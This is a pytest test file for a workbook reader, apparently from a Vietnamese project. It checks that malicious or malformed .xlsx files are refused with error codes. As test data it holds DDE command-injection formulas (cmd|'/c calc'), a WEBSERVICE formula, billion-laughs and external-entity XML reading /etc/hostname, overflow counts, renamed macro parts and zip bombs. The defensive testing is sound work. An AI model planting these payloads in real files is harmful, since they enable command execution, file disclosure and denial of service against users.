"""Workbooks made to do harm, or merely badly made: refused with their code, or read as they are."""

from __future__ import annotations

import io
import os
import random
import re
import resource
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter

from densach.formats.excel import Merged, Row, read_workbook
from densach.problems import Refused
from tests.formats.test_excel import SHEET, Change, Parts, outcome, refused_code, rewritten

HEAD, TAIL = '<worksheet xmlns="m"><sheetData>', "</sheetData></worksheet>"
TYPES, SHARED = "[Content_Types].xml", "xl/sharedStrings.xml"


@pytest.fixture
def workbook(tmp_path: Path) -> Path:
    path = tmp_path / "la.xlsx"
    with xlsxwriter.Workbook(path) as book:
        book.add_worksheet("Sổ").write_row(0, 0, ["Đèn", 12, True])
    return path


def sheet(xml: str) -> Change:
    """Put other rows into the first sheet."""
    return lambda parts: parts | {SHEET: f"{HEAD}{xml}{TAIL}".encode()}


def replaced(part: str, old: bytes, new: bytes) -> Change:
    def change(parts: Parts) -> Parts:
        assert re.search(old, parts[part])
        return parts | {part: re.sub(old, new, parts[part], count=1)}

    return change


def formula(text: str) -> Change:
    return sheet(f'<row r="1"><c r="A1"><f>{text}</f><v>1</v></c></row>')


def typed(kind: str) -> Change:
    """Add a part under a harmless name, with its kind in the list of types."""
    override = f'<Override PartName="/xl/a.b" ContentType="application/{kind}"/></Types>'
    return replaced(TYPES, b"</Types>", override.encode())


@pytest.mark.parametrize(
    ("change", "code"),
    [
        (replaced(SHARED, rb'uniqueCount="\d+"', b'uniqueCount="99999999999"'), "W110"),
        (replaced(SHARED, rb' count="\d+" uniqueCount="\d+"', b" uniqueCount\n=\n'18446744073709551615'"), "W110"),
        (replaced(SHEET, rb"</sheetData>", b'</sheetData><mergeCells count="+99999999999"/>'), "W110"),
        (replaced(SHARED, rb"<sst", b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><sst'), "W115"),
        (replaced(SHEET, rb"<worksheet", b'<!DOCTYPE x SYSTEM "file:///etc/hostname"><worksheet'), "W115"),
        (lambda parts: parts | {SHEET: parts[SHEET].decode().encode("utf-16")}, "W110"),
        (sheet('<row r="1"><c r="&#88;FD1"><v>1</v></c></row>'), "W110"),
        (sheet('<row r="1048576"><c><v>1</v></c></row>'), "W108"),
        (sheet(f"<row>{'<c><v>1</v></c>' * 300}</row>"), "W108"),
        (sheet("<row><c><v>1</v></c></row>" * 200_001), "W108"),
        (sheet(f'<row r="1"><c r="IU1"/>{"<c><v>1</v></c>" * 5}</row>'), "W108"),
        (sheet('<row r="1"><c foo=">" r="XFD1048576" s="1"><v>1</v></c></row>'), "W108"),
        (sheet('<row r="1"><c r="A1"><v>NaN</v></c></row>'), "W110"),
        (sheet('<row r="1"><c r="A1"><v>1e999</v></c></row>'), "W110"),
        (formula("cmd|'/c calc'!A1"), "W106"),
        (formula("MSEXCEL|sheet!R1C1"), "W106"),
        (formula('_xlfn.WEBSERVICE("http://x/"&amp;A2)'), "W106"),
        (formula("RTD(&quot;a&quot;,,&quot;b&quot;)"), "W106"),
        (sheet('<row r="1"><c r="A1"><v>2</v></c><c r="B1"><f>A1*2</f></c></row>'), "W114"),
        (sheet('<row r="1"><c r="A1"><v>2</v></c><c r="B1"><f>A1*2</f><v></v></c></row>'), "W114"),
        (sheet('<row r="1"><c r="A1"><v>2</v></c><c r="B1"><f t="shared" si="0"/><v/></c></row>'), "W114"),
        (sheet('<row r="1"><c r="A1" t="str"><f>A2</f></c></row>'), "W114"),
        (lambda parts: parts | {"xl/x.xml": b"<sst>" + b"<mergeCell ref='A1:B2'/>" * 300_001}, "W110"),
        (typed("vnd.ms-office.vbaProject"), "W105"),
        (typed("vnd.ms-excel.macro&#115;heet+xml"), "W105"),
        (typed("vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"), "W106"),
    ],
    ids=[
        "count that fills the memory", "count that overflows", "merged count", "billion laughs", "outer entity",
        "utf-16", "escaped address", "far row without addresses", "wide row without addresses",
        "long without addresses", "beyond an address", "address behind a bracket", "not a number", "infinite",
        "dde command", "dde", "web", "live data", "no result", "empty result", "shared formula",
        "text without result", "too many merged", "renamed macro", "renamed macro sheet", "renamed link",
    ],
)  # fmt: skip
def test_hostile_parts_are_refused(workbook: Path, change: Change, code: str) -> None:
    assert refused_code(rewritten(workbook, change)) == code


@pytest.mark.parametrize("prefix", ["", "x:"])
def test_a_formula_without_a_result_is_named_by_its_cell(workbook: Path, prefix: str) -> None:
    p = prefix
    rows = f'<{p}row r="7"><{p}c r="A7"><{p}v>1</{p}v></{p}c><{p}c r="C7" s="1"><{p}f>SUM(A1:A6)</{p}f></{p}c></{p}row>'
    xml = f'<{p}worksheet xmlns:x="m"><{p}sheetData>{rows}</{p}sheetData></{p}worksheet>'
    with pytest.raises(Refused) as refused:
        read_workbook(rewritten(workbook, lambda parts: parts | {SHEET: xml.encode()}))
    assert (refused.value.problems[0].code, refused.value.problems[0].words["cell"]) == ("W114", "C7")


def test_a_formula_of_which_openpyxl_knows_no_result_is_refused(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    assert book.active is not None
    book.active["A1"], book.active["B2"] = 1, "=A1+1"
    book.save(tmp_path / "a.xlsx")
    assert refused_code(tmp_path / "a.xlsx") == "W114"


NUMBER = '<c r="B1"><v>3</v></c>'
QUOTED_BAR = "C1&amp;&quot;|&quot;&amp;D1"
UNTIDY = {
    "empty text": f'<row r="1"><c r="A1" t="str"><f>IF(B1="","",B1)</f><v></v></c>{NUMBER}</row>',
    "short empty text": f'<row r="1"><c r="A1" t="str"><f>IF(B1="","",B1)</f><v/></c>{NUMBER}</row>',
    "bar": f'<row r="1"><c r="B1"><f>{QUOTED_BAR}</f><v>3</v></c></row>',
    "no addresses": "<row><c/><c><v>3</v></c></row>",
    "some addresses": f'<row r="1"><c/>{NUMBER}</row>',
    "far formats": f'<row r="1">{NUMBER}</row><row r="1048576"><c r="A1048576" s="1"/><c r="XFD1048576" s="2"/></row>',
    "very many formats": f'<row r="1">{NUMBER}</row><row r="9">' + "<c r='XFD9' s='1'/>" * 20_000 + "</row>",
}


@pytest.mark.parametrize("xml", UNTIDY.values(), ids=UNTIDY.keys())
def test_untidy_rows_are_read(workbook: Path, xml: str) -> None:
    (row,) = [row for found in read_workbook(rewritten(workbook, sheet(xml))) for row in found.rows()]
    assert row == Row(1, (None, 3))


def test_a_million_empty_rows_that_only_have_a_format_are_passed_over(workbook: Path) -> None:
    formatted = "".join(f'<row r="{row}" s="1"><c r="A{row}" s="1"/></row>' for row in range(2, 1_000_001, 3))
    rewritten(workbook, sheet(f'<row r="1"><c r="A1"><v>1</v></c></row>{formatted}'))
    assert [list(found.rows()) for found in read_workbook(workbook)] == [[Row(1, (1,))]]


@pytest.mark.parametrize("dimension", ["A1:XFD1048576", "D9:A1", "A1"])
def test_a_dimension_that_lies_changes_nothing(workbook: Path, dimension: str) -> None:
    head = f'<worksheet xmlns="m"><dimension ref="{dimension}"/><sheetData>'
    xml = f'{head}<row r="2"><c r="B2"><v>1</v></c></row>{TAIL}'
    rewritten(workbook, lambda parts: parts | {SHEET: xml.encode()})
    assert outcome(workbook) in {"read", "W110"}


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (b"%PDF-1.7\n", "PDF"),
        (b"\xef\xbb\xbf \r\n<!DOCTYPE html><html><table>", "HTML"),
        ("<html><body><table>".encode("utf-16"), "HTML"),
        (b"<table border=1><tr><td>H\xe1\xbb\x8d</td></tr></table>", "HTML"),
        (b"MIME-Version: 1.0\r\n", "HTML"),
        (b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?>', "XML"),
        (b"\x89PNG\r\n\x1a\n", "ảnh"),
        (b"\xff\xd8\xff\xe0", "ảnh"),
        (b"{\\rtf1\\ansi", "RTF"),
        (b"Rar!\x1a\x07", "nén"),
        (b"7z\xbc\xaf\x27\x1c", "nén"),
    ],
)
def test_another_file_under_the_name_of_a_workbook_is_called_what_it_is(
    tmp_path: Path, content: bytes, kind: str
) -> None:
    path = tmp_path / "bao-cao.xlsx"
    path.write_bytes(content)
    with pytest.raises(Refused) as refused:
        read_workbook(path)
    (problem,) = refused.value.problems
    assert (problem.code, kind in problem.words["kind_vi"]) == ("W112", True)


@pytest.mark.parametrize(("part", "kind"), [("word/document.xml", "Word"), ("ppt/presentation.xml", "trình chiếu")])
def test_another_document_is_called_what_it_is(workbook: Path, part: str, kind: str) -> None:
    rewritten(workbook, lambda _parts: {TYPES: b"", part: b""})
    with pytest.raises(Refused, match="W112") as refused:
        read_workbook(workbook)
    assert kind in refused.value.problems[0].words["kind_vi"]


def test_a_workbook_that_is_cut_off_anywhere_is_refused(workbook: Path) -> None:
    content = workbook.read_bytes()
    for length in range(0, len(content), 97):
        workbook.write_bytes(content[:length])
        assert refused_code(workbook) == ("W113" if length else "W102")


def merged(*ranges: str) -> bytes:
    cells = "".join(f'<mergeCell ref="{one}"/>' for one in ranges)
    return f'</sheetData><mergeCells count="{len(ranges)}">{cells}</mergeCells>'.encode()


def test_merged_cells_are_told_as_far_as_the_sheet_is_used(workbook: Path) -> None:
    ranges = merged("A1:C1", "C9:D1048576", "A3:A8", "B2:XFD2", "F1:G5", "E20:F30")
    rows = '<row r="1"><c r="A1"><v>1</v></c></row><row r="10"><c r="C10"><v>1</v></c></row>'
    rewritten(workbook, sheet(rows))
    rewritten(workbook, replaced(SHEET, b"</sheetData>", ranges))
    (found,) = read_workbook(workbook)
    assert found.merged == (Merged(1, 0, 1, 2), Merged(2, 1, 2, 2), Merged(3, 0, 8, 0), Merged(9, 2, 10, 2))
    assert len(list(found.rows())) == 10


def test_a_merged_range_written_backwards_is_left_out(workbook: Path) -> None:
    rewritten(workbook, replaced(SHEET, b"</sheetData>", merged("C5:A1", "A1:B1")))
    assert read_workbook(workbook)[0].merged == (Merged(1, 0, 1, 1),)


def test_a_zip_in_a_zip_is_not_unpacked(workbook: Path) -> None:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb", b"\0" * 50_000_000)
    assert outcome(rewritten(workbook, lambda parts: parts | {"xl/media/a.zip": inner.getvalue()})) == "read"


def test_one_content_told_many_times_in_the_directory_is_counted_each_time(workbook: Path) -> None:
    rewritten(workbook, lambda parts: {"xl/media/a.bin": b"\0" * 1_000_000} | parts)
    content = workbook.read_bytes()
    entry, end = content.index(b"PK\1\2"), content.index(b"PK\5\6")
    first = content[entry : content.index(b"PK\1\2", entry + 4)]
    directory = first * 500 + content[entry:end]
    tail = bytearray(content[end:])
    tail[8:12] = (500 + int.from_bytes(tail[8:10], "little")).to_bytes(2, "little") * 2
    tail[12:16] = len(directory).to_bytes(4, "little")
    workbook.write_bytes(content[:entry] + directory + tail)
    assert refused_code(workbook) == "W107"


def test_what_stands_behind_the_directory_of_a_zip_is_not_trusted(workbook: Path) -> None:
    with zipfile.ZipFile(workbook, "a") as archive:
        archive.comment = b"another directory"
    assert refused_code(workbook) == "W110"


def test_a_long_text_without_a_tag_is_looked_through_in_linear_time(workbook: Path) -> None:
    text = '<row r="1"><c r="A1" t="str"><v>' + "x" * 19_000_000 + "</v></c></row>"
    assert outcome(rewritten(workbook, sheet(text), compression=zipfile.ZIP_STORED)) == "read"


def _other_number(chance: random.Random, part: bytearray) -> None:
    found = list(re.finditer(rb'"\d+"', part))
    if found:
        place = chance.choice(found)
        part[place.start() : place.end()] = b'"%s"' % chance.choice([b"0", b"99999999999", b"-1", b"4294967295", b"x"])


CHANGES: list[Callable[[random.Random, bytearray], None]] = [
    lambda chance, part: part.__setitem__(chance.randrange(len(part)), chance.choice(b'0123456789<>&"/ACZ x\0')),
    lambda chance, part: part.__delitem__(slice(place := chance.randrange(len(part)), place + chance.randrange(40))),
    _other_number,
]


DAMAGED = """
import sys
from pathlib import Path
from tests.formats.test_hostile import damage_many
print(damage_many(Path(sys.argv[1]), int(sys.argv[2])))
"""


def damage_many(path: Path, seed: int) -> set[str]:
    """What becomes of 400 damaged copies of a workbook."""
    chance = random.Random(seed)  # noqa: S311  - a test wants the same damage each time
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    names = [name for name in parts if "theme" not in name and "docProps" not in name]
    found = set()
    for number in range(400):
        part = chance.choice(names)
        damaged = bytearray(parts[part])
        chance.choice(CHANGES)(chance, damaged)
        copy = path.with_name(f"{number}.xlsx")
        with zipfile.ZipFile(copy, "w") as archive:
            for name, content in parts.items():
                archive.writestr(name, bytes(damaged) if name == part else content)
        found.add(outcome(copy))
        copy.unlink()
    return found


def limit_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (3_000_000_000, 3_000_000_000))


@pytest.mark.slow
@pytest.mark.parametrize("seed", range(4))
def test_damage_of_any_kind_ends_in_a_code_within_bounded_memory(tmp_path: Path, seed: int) -> None:
    with xlsxwriter.Workbook(tmp_path / "a.xlsx", {"default_date_format": "dd/mm/yyyy"}) as book:
        made = book.add_worksheet("Sổ")
        made.merge_range("A1:C2", "Đèn")
        made.write_formula("C7", "=1+1", None, 2)
        made.write_rich_string("D9", "a", book.add_format({"bold": True}), "b", "c")
        made.write_comment("A1", "ghi chú")
    done = subprocess.run(
        [sys.executable, "-c", DAMAGED, str(tmp_path / "a.xlsx"), str(seed)],
        check=False,
        capture_output=True,
        text=True,
        env=os.environ | {"PYTHONPATH": os.getcwd()},  # noqa: PTH109
        preexec_fn=limit_memory,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    assert "read" in done.stdout
    assert "Traceback" not in done.stderr
